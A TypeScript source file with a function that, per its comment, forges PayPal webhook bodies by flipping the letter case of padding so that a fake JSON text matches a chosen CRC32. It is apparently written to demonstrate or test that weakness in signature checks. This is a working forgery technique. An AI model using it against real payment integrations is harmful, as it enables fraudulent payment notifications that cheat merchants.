import { crc32 } from 'node:zlib';

/**
 * What an attacker does to a PayPal delivery, whose signature covers only
 * the CRC32 of the body: given a forged JSON text with a run of padding
 * letters, flip the case of some of them (bit 5 of each byte) so the text
 * has `target` as its CRC32. CRC32 is affine over GF(2), so this is a small
 * linear system: each flippable letter changes the CRC by a fixed 32-bit
 * vector, and a subset of them must add up to the difference.
 */
export function padToCrc32(text: string, padding: string, target: number): string {
  const bytes = Buffer.from(text, 'ascii');
  const start = text.indexOf(padding);
  if (start < 0 || !/^[a-z]+$/.test(padding)) throw new Error('the padding must be a run of lower-case letters in the text');
  const zero = crc32(Buffer.alloc(bytes.length));
  // Basis of the flip vectors by leading bit, each with the positions (a bitmask) that make it.
  const basis = new Map<number, { vector: number; positions: bigint }>();
  for (let i = 0; i < padding.length; i++) {
    const flip = Buffer.alloc(bytes.length);
    flip[start + i] = 0x20;
    let vector = (crc32(flip) ^ zero) >>> 0;
    let positions = 1n << BigInt(i);
    for (let bit = 31; bit >= 0 && vector !== 0; bit--) {
      if (((vector >>> bit) & 1) === 0) continue;
      const row = basis.get(bit);
      if (!row) {
        basis.set(bit, { vector, positions });
        break;
      }
      vector = (vector ^ row.vector) >>> 0;
      positions ^= row.positions;
    }
  }
  let want = (crc32(bytes) ^ target) >>> 0;
  let chosen = 0n;
  for (let bit = 31; bit >= 0 && want !== 0; bit--) {
    if (((want >>> bit) & 1) === 0) continue;
    const row = basis.get(bit);
    if (!row) throw new Error('the padding is too short to reach that CRC32');
    want = (want ^ row.vector) >>> 0;
    chosen ^= row.positions;
  }
  for (let i = 0; i < padding.length; i++) if ((chosen >> BigInt(i)) & 1n) bytes[start + i] ^= 0x20;
  const forged = bytes.toString('ascii');
  if (crc32(Buffer.from(forged, 'ascii')) !== target) throw new Error('CRC32 forging failed');
  return forged;
}
